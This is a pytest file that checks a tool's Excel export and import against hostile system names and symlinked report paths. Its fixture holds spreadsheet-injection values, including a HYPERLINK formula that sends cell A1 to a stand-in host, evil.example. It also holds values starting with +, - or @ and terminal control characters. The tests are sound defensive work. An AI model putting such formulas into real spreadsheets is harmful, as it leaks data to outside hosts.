"""A hostile pull request against what came after issue #10: import, export, the site, the
pull-request comment and the history (the same rules as tests/test_hostile_input.py).

Every FIFO, link and device here lives in the test's temporary folder; no test names a device
of the machine.
"""

from __future__ import annotations

import json
import os
import textwrap
import zipfile

import pytest
from openpyxl import load_workbook

AS_OF = "2026-11-27"
HOSTILE_NAMES = {
    "formel": '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")',
    "plus": "+46 SUM(A1)",
    "minus": "-1+1",
    "snabel": "@SUM(A1)",
    "fel": "#N/A",
    "styr": "klocka \x07 och \x1b[31m röd",
}


def _system(entity_id: str, name: str) -> str:
    return textwrap.dedent(f"""\
        kind: system
        id: {entity_id}
        name: {json.dumps(name)}
        owner: ks
        system_owner: Registrator
        capabilities: [ekonomi]
        lifecycle: {{status: active}}
        """)


@pytest.fixture
def hostile_names(repository):
    files = {f"architecture/systems/{key}.yaml": _system(key, name)
             for key, name in HOSTILE_NAMES.items()}
    return repository(files)


# -- export: what a manager opens in Excel ------------------------------------------------------


def test_export_never_writes_a_formula_and_keeps_text_text(hostile_names, run, tmp_path):
    out = tmp_path / "landskap.xlsx"
    result = run("export", hostile_names, "--out", out, "--as-of", AS_OF, "--lang", "en")
    assert result.exit_code == 0, result.output  # the control characters were an internal error
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    assert not any(b't="e"' in sheet for sheet in sheets)
    book = load_workbook(out)
    systems = book["Systems"]
    header = [cell.value for cell in systems[1]]
    cells = {row[0].value: row[header.index("name")] for row in systems.iter_rows(min_row=2)}
    for key in ("formel", "plus", "minus", "snabel"):
        assert cells[key].data_type == "s"
        assert cells[key].quotePrefix, key  # stays text when someone edits the cell
    assert cells["formel"].value == '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")'
    assert cells["fel"].value == "#N/A" and cells["fel"].data_type == "s"
    assert cells["styr"].value == "klocka \\x07 och \\x1b[31m röd"  # shown, as everywhere else
    assert not cells["ekonomisystem"].quotePrefix


def test_an_export_with_such_values_imports_back_unchanged(hostile_names, run, tmp_path):
    for key in ("styr",):  # a control character is shown escaped: that one cannot come back
        (hostile_names / f"architecture/systems/{key}.yaml").unlink()
    out = tmp_path / "landskap.xlsx"
    assert run("export", hostile_names, "--out", out, "--as-of", AS_OF).exit_code == 0
    result = run("import", out, "--mapping", tmp_path / "landskap.mapping.yaml", hostile_names, "--dry-run",
                 "--lang", "en")
    assert result.exit_code == 0, result.output
    assert "0 new, 0 with differences" in result.output


def test_export_writes_neither_file_when_one_of_them_is_refused(repository, run, tmp_path):
    root = repository()
    (root / "reports").mkdir()
    elsewhere = tmp_path / "elsewhere.yaml"
    elsewhere.write_text("kept", encoding="utf-8")
    (root / "reports" / "landskap.mapping.yaml").symlink_to(elsewhere)
    result = run("export", root, "--as-of", AS_OF, "--lang", "en")
    assert result.exit_code == 2
    assert "landskap.mapping.yaml is a symbolic link" in result.output
    assert not (root / "reports" / "landskap.xlsx").exists()  # no workbook without its mapping
    assert elsewhere.read_text(encoding="utf-8") == "kept"


@pytest.mark.parametrize("command", [("export",), ("report", "--format", "md")])
def test_a_committed_reports_link_out_of_the_repository_is_refused_naming_the_folder(command, repository, run,
                                                                                    tmp_path):
    root = repository()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / "reports").symlink_to(elsewhere)
    result = run(*command, root, "--as-of", AS_OF, "--lang", "en")
    assert result.exit_code == 2
    assert f"the folder {root / 'reports'} leads outside the repository" in result.output
    assert "reports/_" not in result.output  # the folder or the file, not a made-up name in it
    assert list(elsewhere.iterdir()) == []
